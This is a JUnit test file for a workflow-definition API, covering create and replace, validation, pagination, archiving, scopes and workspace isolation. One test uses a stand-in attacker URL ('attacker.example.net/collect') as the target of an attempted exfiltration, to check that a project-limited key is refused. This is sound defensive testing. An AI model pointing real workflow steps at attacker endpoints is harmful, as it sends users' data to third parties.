package dev.runway.api;

import static dev.runway.support.Problems.assertProblem;
import static org.junit.jupiter.api.Assertions.assertEquals;
import static org.junit.jupiter.api.Assertions.assertFalse;
import static org.junit.jupiter.api.Assertions.assertTrue;

import com.fasterxml.jackson.databind.JsonNode;
import dev.runway.auth.Scope;
import dev.runway.support.Api;
import dev.runway.support.BothDatabases;
import dev.runway.support.Http;
import java.time.Instant;
import java.util.ArrayList;
import java.util.List;
import java.util.Map;
import java.util.Optional;

/** Workflow definitions: PUT (create or replace), GET, list, DELETE (archive), and what that means for runs. */
class WorkflowsTest {
  private static final String TIME = "\\d{4}-\\d\\d-\\d\\dT\\d\\d:\\d\\d:\\d\\d\\.\\d{3}Z";

  @BothDatabases
  void put_creates_with_201_then_same_put_is_200_and_changed_put_replaces(Api api) {
    api.test(http -> {
      String body = "{\"name\":\"Deploy\",\"description\":\"Ships it\",\"requires_approval\":true,"
          + "\"steps\":[{\"type\":\"delay\",\"seconds\":5}]}";
      Http.Reply created = http.put("/v1/workflows/deploy", body);

      assertEquals(201, created.status(), created::toString);
      assertTrue(created.header("Content-Type").startsWith("application/json"), created.header("Content-Type"));
      assertTrue(created.header("Request-Id").startsWith("req_"));
      JsonNode w = created.json();
      assertEquals(List.of("id", "name", "description", "requires_approval", "steps", "triggers", "created_at", "updated_at",
          "archived_at", "inputs_schema", "output", "concurrency"), fieldNames(w));
      assertEquals("deploy", w.get("id").asText());
      assertEquals("Deploy", w.get("name").asText());
      assertEquals("Ships it", w.get("description").asText());
      assertTrue(w.get("requires_approval").asBoolean());
      assertEquals(Api.json("[{\"type\":\"delay\",\"seconds\":5}]"), w.get("steps"));
      assertTrue(w.get("created_at").asText().matches(TIME), w::toString);
      assertEquals(w.get("created_at"), w.get("updated_at"));
      assertTrue(w.get("archived_at").isNull());

      Map<String, Object> row = storedWorkflow(api, api.workspace, "deploy").orElseThrow();
      assertEquals("Deploy", row.get("name"));
      assertEquals("Ships it", row.get("description"));
      assertEquals(Boolean.TRUE, row.get("requires_approval"));
      assertEquals(Api.json("[{\"type\":\"delay\",\"seconds\":5}]"), Api.json((String) row.get("steps")));
      assertEquals(null, row.get("archived_at"));

      Http.Reply same = http.put("/v1/workflows/deploy", body);
      assertEquals(200, same.status(), same::toString);
      assertEquals(w, same.json(), "the same definition again changes nothing, not even updated_at");

      Thread.sleep(5);
      Http.Reply changed = http.put("/v1/workflows/deploy",
          "{\"name\":\"Deploy v2\",\"requires_approval\":false,\"steps\":[{\"type\":\"delay\",\"seconds\":5},{\"type\":\"approval\",\"timeout_s\":60}]}");
      assertEquals(200, changed.status(), changed::toString);
      JsonNode c = changed.json();
      assertEquals("deploy", c.get("id").asText());
      assertEquals("Deploy v2", c.get("name").asText());
      assertEquals("", c.get("description").asText(), "a replace: a field left out takes its default");
      assertFalse(c.get("requires_approval").asBoolean());
      assertEquals(Api.json("[{\"type\":\"delay\",\"seconds\":5},{\"type\":\"approval\",\"timeout_s\":60}]"), c.get("steps"));
      assertEquals(w.get("created_at"), c.get("created_at"), "created_at unchanged");
      assertTrue(Instant.parse(c.get("updated_at").asText()).isAfter(Instant.parse(w.get("updated_at").asText())));
      assertTrue(c.get("archived_at").isNull());

      Map<String, Object> after = storedWorkflow(api, api.workspace, "deploy").orElseThrow();
      assertEquals("Deploy v2", after.get("name"));
      assertEquals("", after.get("description"));
      assertEquals(Boolean.FALSE, after.get("requires_approval"));
      assertEquals(1, countWorkflows(api, api.workspace));
      assertEquals(c, http.get("/v1/workflows/deploy").json());
    });
  }

  @BothDatabases
  void put_defaults_name_to_the_id_description_to_empty_and_steps_to_empty(Api api) {
    api.test(http -> {
      Http.Reply reply = http.put("/v1/workflows/bare", "{}");
      assertEquals(201, reply.status(), reply::toString);
      assertEquals("bare", reply.json().get("name").asText());
      assertEquals("", reply.json().get("description").asText());
      assertFalse(reply.json().get("requires_approval").asBoolean());
      assertTrue(reply.json().get("steps").isArray());
      assertEquals(0, reply.json().get("steps").size());

      Http.Reply nulls = http.put("/v1/workflows/nulls",
          "{\"name\":null,\"description\":null,\"requires_approval\":null,\"steps\":null}");
      assertEquals(201, nulls.status(), nulls::toString);
      assertEquals("nulls", nulls.json().get("name").asText());

      Map<String, Object> row = storedWorkflow(api, api.workspace, "bare").orElseThrow();
      assertEquals("bare", row.get("name"));
      assertEquals("", row.get("description"));
      assertEquals(Boolean.FALSE, row.get("requires_approval"));
      assertEquals("[]", row.get("steps"));
    });
  }

  @BothDatabases
  void steps_round_trip_exactly_as_given_without_defaults_filled_in(Api api) {
    String steps = "[{\"url\":\"https://tools.example.com/h\u00e9llo?q=\u2713\",\"type\":\"http\","
        + "\"headers\":{\"X-Team\":\"ops \\\"blue\\\"\"},\"max_attempts\":5},"
        + "{\"type\":\"approval\"},{\"seconds\":0,\"type\":\"delay\"}]";
    api.test(http -> {
      JsonNode sent = Api.json(steps);
      // Answers show header values given literally masked (see SecretsTest); all else is as given.
      JsonNode shown = sent.deepCopy();
      ((com.fasterxml.jackson.databind.node.ObjectNode) shown.get(0).get("headers")).put("X-Team", "********");
      Http.Reply put = http.put("/v1/workflows/rich", "{\"steps\":" + steps + "}");
      assertEquals(201, put.status(), put::toString);
      assertEquals(shown, put.json().get("steps"));
      assertEquals(shown, http.get("/v1/workflows/rich").json().get("steps"));
      assertEquals(sent, Api.json((String) storedWorkflow(api, api.workspace, "rich").orElseThrow().get("steps")));
      assertEquals(200, http.put("/v1/workflows/rich", "{\"steps\":" + steps + "}").status());
    });
  }

  @BothDatabases
  void put_with_a_body_that_is_not_an_object_or_not_json_is_400_invalid_json(Api api) {
    api.test(http -> {
      for (String body : new String[] {"[]", "\"x\"", "42", "null", "true", "{\"name\":", "{'name':'x'}", "{} {}",
          "{\"name\":\"a\",\"name\":\"b\"}", ""}) {
        assertProblem(http.put("/v1/workflows/w", body), 400, "invalid_json");
      }
      assertEquals(0, countWorkflows(api, api.workspace));
    });
  }

  @BothDatabases
  void put_with_wrong_field_types_is_400_naming_the_field(Api api) {
    api.test(http -> {
      assertProblem(http.put("/v1/workflows/w", "{\"name\":1}"), 400, "validation_failed", "name");
      assertProblem(http.put("/v1/workflows/w", "{\"name\":[\"x\"]}"), 400, "validation_failed", "name");
      assertProblem(http.put("/v1/workflows/w", "{\"description\":false}"), 400, "validation_failed", "description");
      assertProblem(http.put("/v1/workflows/w", "{\"requires_approval\":\"yes\"}"), 400, "validation_failed", "requires_approval");
      assertProblem(http.put("/v1/workflows/w", "{\"requires_approval\":1}"), 400, "validation_failed", "requires_approval");
      assertProblem(http.put("/v1/workflows/w", "{\"steps\":{}}"), 400, "validation_failed", "steps");
      assertProblem(http.put("/v1/workflows/w", "{\"steps\":\"[]\"}"), 400, "validation_failed", "steps");
      assertProblem(http.put("/v1/workflows/w", "{\"name\":\"" + "n".repeat(201) + "\"}"), 400, "validation_failed", "name");
      assertProblem(http.put("/v1/workflows/w", "{\"description\":\"" + "d".repeat(2001) + "\"}"), 400,
          "validation_failed", "description");
      assertEquals(0, countWorkflows(api, api.workspace));
      assertEquals(201, http.put("/v1/workflows/w", "{\"name\":\"" + "n".repeat(200) + "\"}").status());
    });
  }

  @BothDatabases
  void put_with_an_unknown_field_is_400_unknown_parameter(Api api) {
    api.test(http -> {
      JsonNode p = assertProblem(http.put("/v1/workflows/w", "{\"name\":\"W\",\"timeout\":5}"), 400, "unknown_parameter", "timeout");
      assertTrue(p.get("detail").asText().contains("timeout"), p::toString);
      assertProblem(http.put("/v1/workflows/w", "{\"id\":\"w\"}"), 400, "unknown_parameter", "id");
      assertEquals(0, countWorkflows(api, api.workspace));
    });
  }

  @BothDatabases
  void put_with_wrong_or_missing_content_type_is_415(Api api) {
    api.test(http -> {
      assertProblem(http.send("PUT", "/v1/workflows/w", api.key, "{}", "text/plain"), 415, "unsupported_media_type");
      assertProblem(http.send("PUT", "/v1/workflows/w", api.key, "{}", null), 415, "unsupported_media_type");
      assertProblem(http.send("PUT", "/v1/workflows/w", api.key, "{}", "application/json; charset=latin1"), 415,
          "unsupported_media_type");
      assertEquals(0, countWorkflows(api, api.workspace));
    });
  }

  @BothDatabases
  void workflow_id_that_is_not_a_slug_is_400_naming_id(Api api) {
    api.test(http -> {
      for (String bad : new String[] {"Deploy", "-deploy", "_deploy", "de%20ploy", "d%C3%A9ploy", "a".repeat(65)}) {
        assertProblem(http.put("/v1/workflows/" + bad, "{}"), 400, "validation_failed", "id");
        assertProblem(http.get("/v1/workflows/" + bad), 400, "validation_failed", "id");
        assertProblem(http.delete("/v1/workflows/" + bad), 400, "validation_failed", "id");
      }
      assertEquals(0, countWorkflows(api, api.workspace));
      assertEquals(201, http.put("/v1/workflows/" + "a".repeat(64), "{}").status());
      assertEquals(201, http.put("/v1/workflows/0-a_b", "{}").status());
    });
  }

  @BothDatabases
  void workflow_routes_check_scopes(Api api) {
    api.workflow("hello", false);
    String readOnly = api.key(Scope.RUNS_READ);
    api.test(http -> {
      assertProblem(http.send("PUT", "/v1/workflows/hello", readOnly, "{}", "application/json"), 403, "insufficient_scope");
      assertProblem(http.send("DELETE", "/v1/workflows/hello", readOnly, null, null), 403, "insufficient_scope");
      assertEquals(200, http.get("/v1/workflows/hello", readOnly).status());
      assertEquals(200, http.get("/v1/workflows", readOnly).status());
      assertTrue(http.get("/v1/workflows/hello").json().get("archived_at").isNull());
    });
  }

  /**
   * Workflows are shared by every project of the workspace: a key limited to one project must not
   * replace one (pointing its steps where the runs of every project would send their data) or archive it.
   */
  @BothDatabases
  void a_project_limited_key_reads_workflows_but_may_not_change_them(Api api) {
    api.test(http -> {
      String definition = "{\"name\":\"Publish\",\"steps\":[{\"type\":\"http\",\"url\":\"https://tools.example.com/publish\"}]}";
      assertEquals(201, http.put("/v1/workflows/publish-release", definition).status());
      String alphaKey = api.keyForProjects("alpha");
      JsonNode put = assertProblem(http.send("PUT", "/v1/workflows/publish-release", alphaKey,
          "{\"steps\":[{\"type\":\"http\",\"url\":\"https://attacker.example.net/collect\"}]}", "application/json"),
          403, "project_forbidden");
      assertTrue(put.get("detail").asText().contains("limited to projects"), put::toString);
      assertProblem(http.send("PUT", "/v1/workflows/brand-new", alphaKey, "{}", "application/json"), 403,
          "project_forbidden");
      assertProblem(http.send("DELETE", "/v1/workflows/publish-release", alphaKey, null, null), 403,
          "project_forbidden");

      Map<String, Object> row = storedWorkflow(api, api.workspace, "publish-release").orElseThrow();
      assertTrue(((String) row.get("steps")).contains("tools.example.com"), "the definition is unchanged");
      assertEquals(null, row.get("archived_at"), "not archived");
      assertEquals(1, countWorkflows(api, api.workspace), "nothing created");
      assertEquals(200, http.get("/v1/workflows/publish-release", alphaKey).status(), "reading is allowed");
      assertEquals(200, http.get("/v1/workflows", alphaKey).status());
      assertEquals(200, http.post("/v1/workflows/publish-release/runs", alphaKey, "{\"project\":\"alpha\"}").status(),
          "and so is running it in its own project");
    });
  }

  /** Strings a database could not keep faithfully are refused, on both databases alike. */
  @BothDatabases
  void names_and_descriptions_with_nul_or_broken_characters_are_400(Api api) {
    api.test(http -> {
      assertProblem(http.put("/v1/workflows/w", "{\"name\":\"a\\u0000b\"}"), 400, "validation_failed", "name");
      assertProblem(http.put("/v1/workflows/w", "{\"description\":\"\\u0000\"}"), 400, "validation_failed",
          "description");
      JsonNode lone = assertProblem(http.put("/v1/workflows/w", "{\"name\":\"a\\ud800b\"}"), 400, "invalid_json",
          "name");
      assertTrue(lone.get("detail").asText().contains("surrogate"), lone::toString);
      assertProblem(http.put("/v1/workflows/w", "{\"steps\":[{\"type\":\"http\",\"url\":\"https://x.example.com\","
          + "\"headers\":{\"X-A\":\"\\udfff\"}}]}"), 400, "invalid_json", "steps[0].headers.X-A");
      assertEquals(0, countWorkflows(api, api.workspace));
      // Characters outside the Basic Multilingual Plane (a correct surrogate pair) are fine.
      Http.Reply emoji = http.put("/v1/workflows/w", "{\"name\":\"rocket \\ud83d\\ude80\"}");
      assertEquals(201, emoji.status(), emoji::toString);
      assertEquals("rocket \ud83d\ude80", storedWorkflow(api, api.workspace, "w").orElseThrow().get("name"));
      assertEquals("rocket \ud83d\ude80", http.get("/v1/workflows/w").json().get("name").asText());
    });
  }

  @BothDatabases
  void get_returns_the_workflow_and_unknown_is_404(Api api) {
    api.test(http -> {
      JsonNode put = http.put("/v1/workflows/deploy", "{\"name\":\"Deploy\",\"steps\":[{\"type\":\"delay\",\"seconds\":5}]}").json();
      Http.Reply reply = http.get("/v1/workflows/deploy");
      assertEquals(200, reply.status(), reply::toString);
      assertEquals(put, reply.json());
      assertProblem(http.get("/v1/workflows/nope"), 404, "workflow_not_found");
    });
  }

  @BothDatabases
  void another_workspaces_workflow_does_not_exist(Api api) {
    String other = Api.newWorkspaceId();
    api.workflowIn(other, "theirs", true);
    api.test(http -> {
      assertProblem(http.get("/v1/workflows/theirs"), 404, "workflow_not_found");
      assertProblem(http.delete("/v1/workflows/theirs"), 404, "workflow_not_found");
      assertEquals(0, http.get("/v1/workflows?include_archived=true").json().get("data").size());
      assertEquals(null, storedWorkflow(api, other, "theirs").orElseThrow().get("archived_at"),
          "their workflow is not archived by our DELETE");

      Http.Reply ours = http.put("/v1/workflows/theirs", "{\"name\":\"Ours\"}");
      assertEquals(201, ours.status(), "the same id in our workspace is a different workflow");
      assertEquals("theirs", storedWorkflow(api, other, "theirs").orElseThrow().get("name"));
      assertEquals(Boolean.TRUE, storedWorkflow(api, other, "theirs").orElseThrow().get("requires_approval"));
    });
  }

  @BothDatabases
  void list_is_by_id_ascending_with_limit_and_starting_after(Api api) {
    List<String> ids = List.of("b", "a-z", "a0", "a_a", "aa", "c1", "c10", "c2", "z", "0");
    for (String id : ids) {
      api.workflow(id, false);
    }
    api.workflowIn(Api.newWorkspaceId(), "b0", false);
    List<String> sorted = new ArrayList<>(ids);
    sorted.sort(null); // byte order: "-" < digits < "_" < letters
    api.test(http -> {
      Http.Reply reply = http.get("/v1/workflows");
      assertEquals(200, reply.status(), reply::toString);
      JsonNode page = reply.json();
      assertEquals(List.of("data", "has_more", "next_cursor"), fieldNames(page));
      assertEquals(sorted, ids(page));
      assertFalse(page.get("has_more").asBoolean());
      assertTrue(page.get("next_cursor").isNull());
      assertEquals(http.get("/v1/workflows/b").json(), page.get("data").get(sorted.indexOf("b")));

      List<String> seen = new ArrayList<>();
      List<Integer> sizes = new ArrayList<>();
      String cursor = null;
      for (int i = 0; i < 10; i++) {
        JsonNode p = http.get("/v1/workflows?limit=4" + (cursor == null ? "" : "&starting_after=" + cursor)).json();
        sizes.add(p.get("data").size());
        seen.addAll(ids(p));
        if (!p.get("has_more").asBoolean()) {
          assertTrue(p.get("next_cursor").isNull());
          break;
        }
        cursor = p.get("next_cursor").asText();
        assertEquals(seen.get(seen.size() - 1), cursor);
      }
      assertEquals(List.of(4, 4, 2), sizes);
      assertEquals(sorted, seen);

      assertEquals(List.of("b", "c1"), ids(http.get("/v1/workflows?limit=2&starting_after=aa").json()));
      assertEquals(List.of("c1", "c10"), ids(http.get("/v1/workflows?limit=2&starting_after=b0").json()),
          "a cursor need not name an existing workflow");
      assertEquals(0, http.get("/v1/workflows?starting_after=z").json().get("data").size());

      assertProblem(http.get("/v1/workflows?limit=0"), 400, "validation_failed", "limit");
      assertProblem(http.get("/v1/workflows?limit=101"), 400, "validation_failed", "limit");
      assertProblem(http.get("/v1/workflows?limit=abc"), 400, "validation_failed", "limit");
      assertProblem(http.get("/v1/workflows?starting_after=Not-A-Slug"), 400, "validation_failed", "starting_after");
      assertProblem(http.get("/v1/workflows?include_archived=yes"), 400, "validation_failed", "include_archived");
      assertProblem(http.get("/v1/workflows?archived=true"), 400, "unknown_parameter", "archived");
    });
  }

  @BothDatabases
  void list_defaults_to_20(Api api) {
    List<String> ids = new ArrayList<>();
    for (int i = 0; i < 21; i++) {
      String id = String.format("w%02d", i);
      ids.add(id);
      api.workflow(id, false);
    }
    api.test(http -> {
      JsonNode page = http.get("/v1/workflows").json();
      assertEquals(ids.subList(0, 20), ids(page));
      assertTrue(page.get("has_more").asBoolean());
      assertEquals("w19", page.get("next_cursor").asText());
      assertEquals(List.of("w20"), ids(http.get("/v1/workflows?starting_after=w19").json()));
    });
  }

  @BothDatabases
  void list_leaves_out_archived_workflows_unless_asked(Api api) {
    api.workflow("a", false);
    api.workflow("b", false);
    api.workflow("c", false);
    api.test(http -> {
      assertEquals(200, http.delete("/v1/workflows/b").status());
      assertEquals(List.of("a", "c"), ids(http.get("/v1/workflows").json()));
      assertEquals(List.of("a", "c"), ids(http.get("/v1/workflows?include_archived=false").json()));
      JsonNode all = http.get("/v1/workflows?include_archived=true").json();
      assertEquals(List.of("a", "b", "c"), ids(all));
      assertFalse(all.get("data").get(1).get("archived_at").isNull());
      assertEquals(List.of("c"), ids(http.get("/v1/workflows?limit=1&starting_after=a").json()),
          "pagination skips archived workflows too");
      JsonNode first = http.get("/v1/workflows?limit=1").json();
      assertTrue(first.get("has_more").asBoolean());
      JsonNode second = http.get("/v1/workflows?limit=1&starting_after=" + first.get("next_cursor").asText()).json();
      assertEquals(List.of("c"), ids(second));
      assertFalse(second.get("has_more").asBoolean());
    });
  }

  @BothDatabases
  void delete_archives_and_keeps_the_workflow_and_its_runs_readable(Api api) {
    api.workflow("old", true);
    api.test(http -> {
      Http.Reply run = http.startRun("old", "demo");
      assertEquals(200, run.status(), run::toString);
      String runId = run.json().get("id").asText();
      JsonNode before = http.get("/v1/workflows/old").json();

      Http.Reply archived = http.delete("/v1/workflows/old");
      assertEquals(200, archived.status(), archived::toString);
      JsonNode a = archived.json();
      assertEquals("old", a.get("id").asText());
      assertTrue(a.get("archived_at").asText().matches(TIME), a::toString);
      assertEquals(before.get("created_at"), a.get("created_at"));
      assertEquals(before.get("name"), a.get("name"));
      assertEquals(before.get("steps"), a.get("steps"));
      assertTrue(a.get("requires_approval").asBoolean());
      assertTrue(storedWorkflow(api, api.workspace, "old").orElseThrow().get("archived_at") != null);

      assertEquals(a, http.get("/v1/workflows/old").json(), "GET still returns an archived workflow");
      assertProblem(http.startRun("old", "demo"), 404, "workflow_not_found");
      assertEquals(1, api.countRuns(""));
      Http.Reply readRun = http.get("/v1/runs/" + runId);
      assertEquals(200, readRun.status(), readRun::toString);
      for (String field : List.of("id", "workflow", "requires_approval", "created_at", "project")) {
        assertEquals(run.json().get(field), readRun.json().get(field), field);
      }
      assertEquals("awaiting_approval", readRun.json().get("status").asText(), "stopped at its gate");
      assertEquals(List.of(runId), ids(http.get("/v1/runs?workflow=old").json()));

      Thread.sleep(5);
      Http.Reply again = http.delete("/v1/workflows/old");
      assertEquals(200, again.status(), again::toString);
      assertEquals(a, again.json(), "archiving twice keeps the first archived_at");

      assertProblem(http.delete("/v1/workflows/nope"), 404, "workflow_not_found");
    });
  }

  @BothDatabases
  void put_of_an_archived_workflow_restores_it(Api api) {
    api.test(http -> {
      String body = "{\"name\":\"Old\",\"steps\":[{\"type\":\"approval\",\"timeout_s\":60}]}";
      JsonNode created = http.put("/v1/workflows/old", body).json();
      assertEquals(200, http.delete("/v1/workflows/old").status());

      Http.Reply restored = http.put("/v1/workflows/old", body);
      assertEquals(200, restored.status(), restored::toString);
      assertTrue(restored.json().get("archived_at").isNull(), restored::toString);
      assertEquals(created.get("created_at"), restored.json().get("created_at"));
      assertEquals(null, storedWorkflow(api, api.workspace, "old").orElseThrow().get("archived_at"));
      assertTrue(http.get("/v1/workflows/old").json().get("archived_at").isNull());
      assertEquals(List.of("old"), ids(http.get("/v1/workflows").json()));
      assertEquals(200, http.startRun("old", "demo").status(), "runs can start again");
    });
  }

  @BothDatabases
  void a_run_keeps_requires_approval_from_when_it_started(Api api) {
    api.test(http -> {
      assertEquals(201, http.put("/v1/workflows/gate", "{\"requires_approval\":true}").status());
      Http.Reply gated = http.startRun("gate", "demo");
      assertEquals(200, gated.status(), gated::toString);
      assertTrue(gated.json().get("requires_approval").asBoolean());

      assertEquals(200, http.put("/v1/workflows/gate", "{\"requires_approval\":false}").status());
      Http.Reply open = http.startRun("gate", "demo");
      assertFalse(open.json().get("requires_approval").asBoolean(), "a new run takes the new definition");

      String gatedId = gated.json().get("id").asText();
      assertTrue(http.get("/v1/runs/" + gatedId).json().get("requires_approval").asBoolean(),
          "the earlier run keeps what it started with");
      assertEquals(Boolean.TRUE, api.storedRun(gatedId).orElseThrow().get("requires_approval"));

      assertEquals(200, http.put("/v1/workflows/gate", "{\"requires_approval\":true}").status());
      assertFalse(http.get("/v1/runs/" + open.json().get("id").asText()).json().get("requires_approval").asBoolean());
    });
  }

  private static Optional<Map<String, Object>> storedWorkflow(Api api, String workspace, String id) {
    return api.jdbi().withHandle(h -> h.createQuery("SELECT * FROM workflow WHERE workspace_id = :ws AND id = :id")
        .bind("ws", workspace).bind("id", id).mapToMap().findOne());
  }

  private static int countWorkflows(Api api, String workspace) {
    return api.jdbi().withHandle(h -> h.createQuery("SELECT COUNT(*) FROM workflow WHERE workspace_id = :ws")
        .bind("ws", workspace).mapTo(Integer.class).one());
  }

  private static List<String> ids(JsonNode page) {
    List<String> ids = new ArrayList<>();
    page.get("data").forEach(w -> ids.add(w.get("id").asText()));
    return ids;
  }

  private static List<String> fieldNames(JsonNode node) {
    List<String> names = new ArrayList<>();
    node.fieldNames().forEachRemaining(names::add);
    return names;
  }
}
